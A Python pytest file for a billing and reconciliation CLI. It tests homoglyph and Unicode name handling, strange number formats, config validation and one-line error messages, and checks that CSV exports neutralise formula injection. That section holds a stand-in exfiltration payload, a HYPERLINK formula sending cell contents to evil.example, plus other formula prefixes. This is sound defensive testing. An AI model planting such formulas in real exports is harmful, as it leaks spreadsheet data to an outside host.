"""The hostile-input battery: names that look alike, numbers written strangely, text that attacks its reader.
Each case is a row: the input, the located error (or behaviour) expected, and for a refused import the
database exactly as it was before (the audit log included)."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from typer.testing import CliRunner

from mcc.cli import app
from mcc.config import Config
from mcc.names import clean_name, mixed_scripts, name_key, name_problem
from mcc.permissions import Actor
from store.book import import_book
from store.db import reading
from store.models import Client, Product
from tests.test_book_support import DATA, SOURCES, snapshot

ADMIN = Actor("alice", frozenset({"admin"}))


@pytest.fixture
def loaded(engine: Engine, write_config, cli_user) -> Engine:
    """The sample book (clients Acme Dental, Bright "Smiles" Ortho, Cedar Law; products WS, SRV, BLOCK)."""
    config: Config = write_config(SOURCES)
    cli_user("alice")
    import_book(engine, config, DATA / "book.toml", ADMIN)
    return engine


def refused(engine: Engine, path: Path, content: str | bytes, expected: str) -> None:
    """Import `content` through the CLI: exit 1, one line naming the file, line and field, nothing changed."""
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    before = snapshot(engine)
    result = CliRunner().invoke(app, ["config", "import", str(path)])
    assert result.exit_code == 1, result.output
    assert result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("error: "), result.stderr
    assert "Traceback" not in result.output
    assert expected in result.stderr, result.stderr
    assert snapshot(engine) == before


def client(name: str, extra: str = "") -> str:
    return f'[[clients]]\nname = "{name}"\n{extra}'


def product(code: str, extra: str = "") -> str:
    return f'[[products]]\ncode = "{code}"\nname = "Thing"\nunit_price = "1.00"\n{extra}'


# --- 1. names that look alike ----------------------------------------------------------------------------

NAME_KEYS = {
    "upper case": ("ACME DENTAL", "acme dental"),
    "trailing space": ("Acme Dental ", "acme dental"),
    "doubled inner space": ("Acme  Dental", "acme dental"),
    "NFD accent": ("Cafe\u0301", "café"),
    "zero-width space": ("Acme\u200b Dental", "acme dental"),
    "full-width letters": ("\uff21cme Dental", "acme dental"),
}


@pytest.mark.parametrize("written,key", NAME_KEYS.values(), ids=NAME_KEYS.keys())
def test_names_that_look_alike_have_one_comparison_key(written: str, key: str) -> None:
    assert name_key(written) == key


def test_a_cyrillic_look_alike_is_a_different_key_and_is_flagged_as_mixed_script() -> None:
    assert name_key("\u0410cme Dental") != name_key("Acme Dental")
    assert mixed_scripts("\u0410cme Dental") == ["CYRILLIC", "LATIN"]
    assert mixed_scripts("Acme Dental") == []
    assert mixed_scripts("Café Crème") == []


def test_names_are_stored_in_one_form() -> None:
    assert clean_name("  Cafe\u0301   Crème ") == "Café Crème"
    assert name_problem("Acme\u200bDental") is not None
    assert name_problem("Acme\nDental") is not None
    assert name_problem("Acme Dental") is None


LOOK_ALIKE_BOOKS = {
    "upper-case twin in one book": (
        client("Zed Co") + client("ZED CO"),
        "bad.toml line 4: clients[2].name: duplicate client: the same as clients[1] (line 1)",
    ),
    "NFC and NFD twins in one book": (
        client("Caf\u00e9") + client("Cafe\u0301"),
        "bad.toml line 4: clients[2].name: duplicate client: the same as clients[1] (line 1)",
    ),
    "zero-width space in a name": (
        client("Zed\u200b Co"),
        "bad.toml line 2: clients[1].name: contains the invisible character U+200B",
    ),
    "NUL in a name": (
        client("Zed\\u0000Co"),
        "bad.toml line 2: clients[1].name: contains a NUL",
    ),
    "newline in a name": (
        client("Zed\\nCo"),
        "bad.toml line 2: clients[1].name: contains a line break",
    ),
    "NUL in a reason": (
        '[[exclusions]]\nclient = "Acme Dental"\nsource = "ninja"\nentity = "1"\nreason = "a\\u0000b"\n',
        "exclusions[1].reason: contains a NUL character",
    ),
    "stored client in capitals": (
        client("ACME DENTAL"),
        "bad.toml line 2: clients[1].name: client 'ACME DENTAL' is the same name as the existing client "
        "'Acme Dental'",
    ),
    "stored client with a doubled space": (
        client("Cedar  LAW"),
        "clients[1].name: client 'Cedar LAW' is the same name as the existing client 'Cedar Law'",
    ),
    "product ws beside stored WS": (
        product("ws"),
        "bad.toml line 2: products[1].code: product 'ws' is the same name as the existing product 'WS'",
    ),
    "product twins in one book": (
        product("ab") + product("AB"),
        "bad.toml line 6: products[2].code: duplicate product code: the same as products[1] (line 1)",
    ),
}


@pytest.mark.parametrize("content,expected", LOOK_ALIKE_BOOKS.values(), ids=LOOK_ALIKE_BOOKS.keys())
def test_a_book_with_look_alike_names_is_refused(loaded: Engine, tmp_path: Path, content: str, expected: str):
    refused(loaded, tmp_path / "bad.toml", content, expected)


def test_a_trailing_space_or_nfd_name_updates_the_stored_client(loaded: Engine, tmp_path: Path) -> None:
    path = tmp_path / "book.toml"
    path.write_text(
        client("Acme Dental ", 'accounting_id = "A-9"\n') + client("Cafe\u0301"), encoding="utf-8"
    )
    result = CliRunner().invoke(app, ["config", "import", str(path)])
    assert result.exit_code == 0, result.output
    with reading(loaded) as session:
        names = sorted(session.scalars(select(Client.name)))
        acme = session.scalars(select(Client.accounting_id).where(Client.name == "Acme Dental")).one()
    assert names == sorted(['Bright "Smiles" Ortho', "Acme Dental", "Café", "Cedar Law"])
    assert acme == "A-9"


def test_a_mixed_script_name_is_imported_with_a_warning(loaded: Engine, tmp_path: Path) -> None:
    path = tmp_path / "book.toml"
    path.write_text(client("\u0410cme Dental"), encoding="utf-8")
    result = CliRunner().invoke(app, ["config", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert (
        "warning: clients[1] (line 1): client 'Аcme Dental' mixes Cyrillic and Latin letters" in result.stderr
    )
    with reading(loaded) as session:
        assert session.scalar(select(Client).where(Client.name == "\u0410cme Dental")) is not None
        assert "ws" not in set(session.scalars(select(Product.code)))


def test_org_mapping_compares_names_by_their_key(loaded: Engine) -> None:
    from collectors import mapping

    assert mapping.normalise("\uff21CME  Dental\u200b, Inc.") == "acme dental"
    assert mapping.find_client(loaded, "ACME  DENTAL ")[1] == "Acme Dental"
    assert mapping.find_client(loaded, "Cafe\u0301 Law".replace("Cafe\u0301", "cedar"))[1] == "Cedar Law"


# --- 2. numbers written strangely ------------------------------------------------------------------------

NUMBER_BOOKS = {
    "underscore in a cost": (
        product("X", 'unit_cost = "1_000.00"\n'),
        "bad.toml line 5: products[1].unit_cost: must be a decimal amount such as \"45.00\", got '1_000.00'",
    ),
    "underscore in a price": (
        '[[products]]\ncode = "X"\nname = "X"\nunit_price = "1_000.00"\n',
        "bad.toml line 4: products[1].unit_price: must be a decimal amount such as \"45.00\", got '1_000.00'",
    ),
    "Arabic-Indic digits in a price": (
        '[[products]]\ncode = "X"\nname = "X"\nunit_price = "\u0664\u0665.\u0660\u0660"\n',
        "bad.toml line 4: products[1].unit_price: must be a decimal amount such as \"45.00\", got '٤٥.٠٠'",
    ),
    "full-width digits in a price": (
        '[[products]]\ncode = "X"\nname = "X"\nunit_price = "\uff14\uff15.00"\n',
        "bad.toml line 4: products[1].unit_price: must be a decimal amount such as \"45.00\", got '４５.00'",
    ),
    "Arabic-Indic digits in hours": (
        '[[blocks]]\nclient = "Acme Dental"\nhours = "\u0661\u0660"\nstart = "2026-01-01"\n',
        "bad.toml line 3: blocks[1].hours: must be a positive number of hours",
    ),
    "full-width digits in a tolerance": (
        product("X", 'tolerance = "\uff12%"\n'),
        "bad.toml line 5: products[1].tolerance: must be a whole number of units or a percentage string",
    ),
    "tolerance 999%": (
        product("X", 'tolerance = "999%"\n'),
        "bad.toml line 5: products[1].tolerance: must be at most 100%, got '999%'",
    ),
    "tolerance of two billion units": (
        product("X", "tolerance = 2_000_000_000\n"),
        "bad.toml line 5: products[1].tolerance: must be at most 10,000,000 units",
    ),
}


@pytest.mark.parametrize("content,expected", NUMBER_BOOKS.values(), ids=NUMBER_BOOKS.keys())
def test_a_number_written_strangely_is_refused(loaded: Engine, tmp_path: Path, content: str, expected: str):
    refused(loaded, tmp_path / "bad.toml", content, expected)


SHEET = "client,product,quantity,start,end,unit_price\n"
NUMBER_SHEETS = {
    "full-width quantity": (
        SHEET + "Acme Dental,WS,\uff13,2026-05-01,,\n",
        "contracts.csv row 2: quantity must be a whole number ≥ 0, got '３'",
    ),
    "Arabic-Indic quantity": (
        SHEET + "Acme Dental,WS,\u0663,2026-05-01,,\n",
        "contracts.csv row 2: quantity must be a whole number ≥ 0, got '٣'",
    ),
    "underscore in a price": (
        SHEET + "Acme Dental,WS,3,2026-05-01,,1_000.00\n",
        "contracts.csv row 2: unit_price must be a decimal amount such as \"45.00\", got '1_000.00'",
    ),
    "NUL in a client": (
        SHEET + "Acme\x00Dental,WS,3,2026-05-01,,\n",
        "contracts.csv row 2: client contains a NUL",
    ),
}


@pytest.mark.parametrize("content,expected", NUMBER_SHEETS.values(), ids=NUMBER_SHEETS.keys())
def test_a_sheet_with_strange_numbers_is_refused(loaded: Engine, tmp_path: Path, content: str, expected: str):
    refused(loaded, tmp_path / "contracts.csv", content, expected)


CONFIG_CASES = {
    "offline_days = -5": (
        '[[sources]]\nname = "ninja"\nkind = "ninjaone"\noffline_days = -5\n',
        "sources[1].offline_days (source 'ninja'): Input should be greater than or equal to 1",
    ),
    "due_days = -30": (
        "[accounting]\ndue_days = -30\n",
        "accounting.due_days: Input should be greater than or equal to 0",
    ),
    "every 1 seconds": (
        '[[sources]]\nname = "ninja"\nkind = "ninjaone"\nschedule = "every 1 seconds"\n',
        "sources[1].schedule (source 'ninja'): schedule 'every 1 seconds': runs at most once a minute",
    ),
    "every 30 seconds for one stream": (
        '[[sources]]\nname = "ninja"\nkind = "ninjaone"\nschedule = { devices = "every 30 seconds" }\n',
        "schedule 'every 30 seconds': runs at most once a minute",
    ),
}


@pytest.mark.parametrize("body,expected", CONFIG_CASES.values(), ids=CONFIG_CASES.keys())
def test_a_config_with_a_nonsense_number_is_refused(write_config, body: str, expected: str) -> None:
    from mcc.errors import ConfigError

    with pytest.raises(ConfigError) as error:
        write_config(body)
    assert expected in str(error.value)
    assert "mcc.toml: " in str(error.value)


def test_every_minute_is_still_a_schedule() -> None:
    from mcc.schedules import parse_schedule

    assert parse_schedule("every minute").period.total_seconds() == 60
    assert parse_schedule("every 60 seconds").period.total_seconds() == 60


# --- 3. where filters written the TOML way, and Microsoft 365 seats ----------------------------------------

M365 = SOURCES + '\n[[sources]]\nname = "m365"\nkind = "m365"\n'
USERS = '[[products]]\ncode = "USER"\nname = "Managed user"\nunit_price = "35.00"\n\n'


def _import(engine: Engine, tmp_path: Path, text: str) -> tuple[str, list[dict[str, object]]]:
    from store.models import Mapping

    path = tmp_path / "book.toml"
    path.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(app, ["config", "import", str(path)])
    assert result.exit_code == 0, result.output
    with reading(engine) as session:
        wheres = [m.where for m in session.scalars(select(Mapping).where(Mapping.source == "m365"))]
    return result.stderr, wheres


def test_a_where_table_with_toml_booleans_is_accepted_and_round_trips(
    engine: Engine, write_config, cli_user, tmp_path: Path
) -> None:
    write_config(M365)
    cli_user("alice")
    mapping = '[[mappings]]\nproduct = "USER"\nsource = "m365"\nmetric = "users"\n'
    stderr, wheres = _import(
        engine,
        tmp_path,
        USERS + mapping + 'where = { enabled = true, licensed = true, user_purpose = "user" }\n',
    )
    assert wheres == [{"enabled": True, "licensed": True, "user_purpose": "user"}]
    assert stderr == ""
    exported = CliRunner().invoke(app, ["config", "export"]).stdout
    assert 'where = { enabled = true, licensed = true, user_purpose = "user" }' in exported


def test_an_m365_users_mapping_without_where_bills_only_enabled_licensed_people(
    engine: Engine, write_config, cli_user, tmp_path: Path
) -> None:
    write_config(M365)
    cli_user("alice")
    mapping = '[[mappings]]\nproduct = "USER"\nsource = "m365"\nmetric = "users"\n'
    stderr, wheres = _import(engine, tmp_path, USERS + mapping)
    assert wheres == [{"enabled": True, "licensed": True, "user_purpose": "user"}]
    assert 'has no where, so it counts only enabled = true, licensed = true, user_purpose = "user"' in stderr


def test_an_m365_users_mapping_that_leaves_disabled_accounts_in_is_warned_about(
    engine: Engine, write_config, cli_user, tmp_path: Path
) -> None:
    write_config(M365)
    cli_user("alice")
    mapping = (
        '[[mappings]]\nproduct = "USER"\nsource = "m365"\nmetric = "users"\nwhere = { licensed = "true" }\n'
    )
    stderr, wheres = _import(engine, tmp_path, USERS + mapping)
    assert wheres == [{"licensed": "true"}]  # kept as written: the book asked for it
    assert "warning: mappings[1] (line 6): m365 users where leaves enabled, user_purpose open" in stderr


WHERE_CASES = {
    "a float": ("where = { ratio = 1.5 }\n", "ratio must be a string, true or false, a whole number"),
    "an empty list": ("where = { node_class = [] }\n", "node_class must be a string, true or false"),
    "a nested table": ("where = { node_class = { a = 1 } }\n", "node_class must be a string, true or false"),
}


@pytest.mark.parametrize("where,expected", WHERE_CASES.values(), ids=WHERE_CASES.keys())
def test_a_where_value_no_source_emits_is_refused(loaded: Engine, tmp_path: Path, where: str, expected: str):
    mapping = '[[mappings]]\nproduct = "WS"\nsource = "ninja"\nmetric = "devices"\n' + where
    refused(loaded, tmp_path / "bad.toml", mapping, "bad.toml line 5: mappings[1].where: " + expected)


def test_boolean_and_number_filters_match_what_sources_emit() -> None:
    import polars as pl

    from reconcile.matching import rule_matches
    from store.frames import filter_rows

    emitted = {1: {"enabled": True}, 2: {"enabled": "True"}, 3: {"enabled": "false"}, 4: {"enabled": False}}
    emitted |= {5: {"cores": 4}, 6: {"cores": "4"}, 7: {"cores": 4.0}, 8: {"cores": 8}}
    from store.frames import attr_text

    attrs = pl.DataFrame(
        [(k, a, attr_text(v)) for k, d in emitted.items() for a, v in d.items()],
        schema={"key_id": pl.Int64, "attr": pl.String, "value": pl.String},
        orient="row",
    )
    subjects = pl.DataFrame({"key_id": list(emitted), "source": ["s"] * len(emitted)})
    rules = pl.DataFrame({"mapping_id": [10, 20], "source": ["s", "s"]})
    filters = pl.DataFrame(
        filter_rows(10, {"enabled": True}) + filter_rows(20, {"cores": 4}),
        schema={"rule_id": pl.Int64, "attr": pl.String, "value": pl.String},
        orient="row",
    )
    pairs = rule_matches(
        subjects.lazy(),
        attrs.lazy(),
        rules.lazy(),
        filters.lazy(),
        subject_id="key_id",
        rule_id="mapping_id",
        on=["source"],
    ).collect()
    matched = {rule: sorted(pairs.filter(pl.col("mapping_id") == rule)["key_id"]) for rule in (10, 20)}
    assert matched == {10: [1, 2], 20: [5, 6, 7]}


# --- 4. output that attacks its reader: CSV formulas ----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TRICKY_CELLS = [
    FORMULA,
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "'quoted",
    "'=already",
    "''=",
    "'",
    "-3.00",
    "42",
    "Acme Dental",
    "",
    "=",
    "'-",
]


@pytest.mark.parametrize("text", TRICKY_CELLS)
def test_a_neutralised_cell_reads_back_as_written(text: str) -> None:
    from mcc.csv_cells import FORMULA_PREFIXES, read_cell, safe_cell

    written = safe_cell(text)
    assert read_cell(written) == text
    assert not (written.startswith(FORMULA_PREFIXES) and written not in ("-3.00",))


def _rename(engine: Engine, old: str, new: str) -> None:
    from store.db import transaction

    with transaction(engine) as session:
        session.scalars(select(Client).where(Client.name == old)).one().name = new


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    import re

    from mcc.csv_cells import FORMULA_PREFIXES

    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"-[0-9.]+", cell), cell


def test_contracts_csv_export_neutralises_a_formula_name_and_imports_back_unchanged(
    loaded: Engine, tmp_path: Path
) -> None:
    _rename(loaded, "Acme Dental", FORMULA)
    runner = CliRunner()
    sheet = runner.invoke(app, ["config", "export", "--contracts-csv"]).stdout
    assert "'" + FORMULA.replace('"', '""') in sheet
    _no_formula(_cells(sheet))
    path = tmp_path / "contracts.csv"
    path.write_text(sheet, encoding="utf-8")
    before = snapshot(loaded)["contracts"]
    result = runner.invoke(app, ["config", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert result.stdout.endswith(": no changes\n")
    assert snapshot(loaded)["contracts"] == before
    assert runner.invoke(app, ["config", "export", "--contracts-csv"]).stdout == sheet


def test_reconcile_and_report_csv_neutralise_a_formula_name(engine: Engine, write_config, cli_user) -> None:
    from tests.test_reconcile_service import SOURCES as RECONCILE_SOURCES
    from tests.test_reconcile_service import seed

    write_config(RECONCILE_SOURCES)
    seed(engine)
    cli_user("alice", "approver")
    _rename(engine, "Acme Dental", FORMULA)
    runner = CliRunner()
    gaps = runner.invoke(app, ["reconcile", "--period", "2026-03", "--format", "csv"])
    assert gaps.exit_code == 0, gaps.output
    assert "'" + FORMULA in _cells(gaps.stdout)
    _no_formula(_cells(gaps.stdout))
    report = runner.invoke(app, ["report", "client", FORMULA, "--period", "2026-03", "--format", "csv"])
    assert report.exit_code == 0, report.output
    assert "'" + FORMULA in _cells(report.stdout)
    _no_formula(_cells(report.stdout))


def test_the_invoice_csv_export_neutralises_a_formula_name(engine: Engine, tmp_path: Path) -> None:
    from mcc import invoicing
    from tests.invoicebook import APPROVER, INVOICER, PERIOD
    from tests.invoicebook import seed as invoice_seed

    book = invoice_seed(engine)
    _rename(engine, "Acme Dental", FORMULA)
    config = Config.model_validate(
        {"accounting": {"kind": "file", "path": str(tmp_path / "out"), "format": "csv"}}
    )
    for invoice in invoicing.build_drafts(engine, config, APPROVER, PERIOD):
        invoicing.approve(engine, INVOICER, invoice.id)
    invoicing.push(engine, config, INVOICER, period=PERIOD, client_id=book.acme)
    [path] = sorted((tmp_path / "out").iterdir())
    cells = _cells(path.read_text(encoding="utf-8"))
    assert "'" + FORMULA in cells
    _no_formula(cells)


# --- 5. one clear line instead of a traceback --------------------------------------------------------------


def _seen_org(engine: Engine, source: str, external_id: str, name: str) -> None:
    from datetime import UTC, datetime

    from store.db import transaction
    from store.models import SourceOrg

    now = datetime.now(UTC)
    with transaction(engine) as session:
        session.add(
            SourceOrg(source=source, external_id=external_id, name=name, first_seen=now, last_seen=now)
        )


def test_a_client_named_like_rich_markup_prints_in_reconcile_and_orgs(
    engine: Engine, write_config, cli_user
) -> None:
    from tests.test_reconcile_service import SOURCES as RECONCILE_SOURCES
    from tests.test_reconcile_service import seed

    write_config(RECONCILE_SOURCES)
    seed(engine)
    cli_user("alice", "admin")
    _rename(engine, "Acme Dental", "[/]Markup Co")
    _seen_org(engine, "ninja", "99", "[bold]Markup Co[/] branch")
    runner = CliRunner()
    table = runner.invoke(app, ["reconcile", "--period", "2026-03", "--format", "table"])
    assert table.exit_code == 0, table.output
    assert "[/]Markup Co" in table.stdout
    mapped = runner.invoke(app, ["orgs", "map", "ninja", "99", "[/]markup co"])
    assert mapped.exit_code == 0, mapped.output
    assert mapped.stdout.strip() == "mapped ninja 99 ([bold]Markup Co[/] branch) → [/]Markup Co"
    listed = runner.invoke(app, ["orgs", "unmapped"])
    assert listed.exit_code == 0 and "Traceback" not in listed.output


ONE_LINE_CASES = {
    "--period 0001-01": (
        ["reconcile", "--period", "0001-01"],
        "error: period must be between 1970-01 and 2999-12",
    ),
    "--period with Arabic-Indic digits": (
        ["reconcile", "--period", "\u0662\u0660\u0662\u0666-03"],
        "error: period must look like YYYY-MM",
    ),
    "report --period 9999-12": (
        ["report", "client", "Acme Dental", "--period", "9999-12"],
        "error: period must be between 1970-01 and 2999-12",
    ),
}


@pytest.mark.parametrize("args,expected", ONE_LINE_CASES.values(), ids=ONE_LINE_CASES.keys())
def test_a_bad_argument_is_one_line(loaded: Engine, args: list[str], expected: str) -> None:
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(expected) and result.stderr.count("\n") == 1, result.stderr


def test_a_book_nested_5000_deep_is_one_located_line(loaded: Engine, tmp_path: Path) -> None:
    refused(
        loaded,
        tmp_path / "bad.toml",
        client("Zed Co") + "orgs = " + "[" * 5000 + "\n",
        "bad.toml line 3: not valid TOML: arrays or tables nested too deeply",
    )


def test_mcc_config_naming_a_directory_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MCC_CONFIG", str(tmp_path))
    result = CliRunner().invoke(app, ["reconcile"])
    assert result.exit_code == 1
    assert (
        result.stderr == f"error: {tmp_path}: is a directory, not a configuration file (set by MCC_CONFIG)\n"
    )


def test_an_mcc_config_nested_too_deeply_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "mcc.toml"
    path.write_text("x = " + "[" * 5000 + "\n", encoding="utf-8")
    monkeypatch.setenv("MCC_CONFIG", str(path))
    result = CliRunner().invoke(app, ["reconcile"])
    assert result.exit_code == 1
    assert result.stderr == f"error: {path}: not valid TOML: arrays or tables nested too deeply\n"


def test_db_upgrade_against_an_unreachable_postgres_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    with (
        socket.socket() as probe
    ):  # a port nothing listens on: bound, never listening, so connections are refused
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
        path = tmp_path / "mcc.toml"
        path.write_text(
            f'database_url = "postgresql+psycopg://mcc:s3cret@127.0.0.1:{port}/mcc"\n', encoding="utf-8"
        )
        monkeypatch.setenv("MCC_CONFIG", str(path))
        monkeypatch.delenv("MCC_DATABASE_URL", raising=False)
        result = CliRunner().invoke(app, ["db", "upgrade"])
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(f"error: database 127.0.0.1:{port}/mcc: cannot be reached ("), (
        result.stderr
    )
    assert result.stderr.count("\n") == 1 and "s3cret" not in result.stderr


def test_a_token_answer_without_a_token_keeps_the_vendors_words() -> None:
    import json
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    import httpx

    from collectors.http import MalformedPayload, TokenAuth, redact

    class Vendor(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # the token endpoint answers 200 without a token
            body = json.dumps({"message": "Maintenance until 02:00 UTC"}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Vendor)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        auth = TokenAuth(lambda: httpx.Request("POST", f"{base}/token"), label="Acme token endpoint")
        with httpx.Client(auth=auth) as http, pytest.raises(MalformedPayload) as error:
            http.get(f"{base}/v1/things")
    finally:
        server.shutdown()
        server.server_close()
    message = redact(str(error.value))
    assert "Maintenance until 02:00 UTC" in message and "[redacted]" not in message, message
